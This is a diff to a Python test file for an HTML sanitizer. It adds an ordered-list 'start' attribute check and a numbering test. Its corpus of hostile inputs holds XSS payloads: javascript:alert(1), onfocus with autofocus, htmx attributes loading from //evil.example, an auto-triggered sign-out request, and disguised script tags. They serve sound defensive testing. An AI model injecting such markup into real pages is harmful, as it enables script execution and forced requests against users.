@@ -49,6 +49,7 @@ CORPUS = (
     "<x onfocus=alert(1) tabindex=1 autofocus>a</x>",
     "<ui-form data-url=//evil.example hx-get=//evil.example hx-trigger=load>a</ui-form>",
     "<p hx-get=/sign-out hx-trigger=load data-confirm=x>a</p>",
+    "<ol start=javascript:alert(1) type=i><li>a</ol><ul start=3><li>a</ul><ol start='99999999999'><li>a</ol>",
     "&lt;script&gt;alert(1)&lt;/script&gt;<p>",
     "\ufe64script\ufe65alert(1)<p>",
 )
@@ -84,6 +85,9 @@ def assert_harmless(markup: str) -> None:
             assert tag == "a"
             assert value.partition(":")[0].lower() in SCHEMES
             assert not re.search(r"[\s\"'<>\x00-\x20]", value)
+        elif name == "start":
+            assert tag == "ol"
+            assert value.isdecimal()
         else:
             assert (name, value) in {("dir", "auto"), ("rel", REL)}
     assert ("a" in seen.tags) <= (("a", "rel", REL) in seen.attributes)
@@ -147,3 +151,9 @@ def test_real_nesting_stays():
     depth = DEEPEST // 2 - 1
     text = "<ul><li>" * depth + "x" + "</li></ul>" * depth
     assert as_html(text).count("<ul") == depth
+
+
+def test_a_list_goes_on_counting_where_it_was_told_to():
+    found = as_html("<p>a</p><ol start=3><li>b</li><li>c</li></ol>")
+    assert '<ol start="3" dir="auto">' in found or '<ol dir="auto" start="3">' in found
+    assert plain_text(found) == "a\n\n3. b\n4. c"
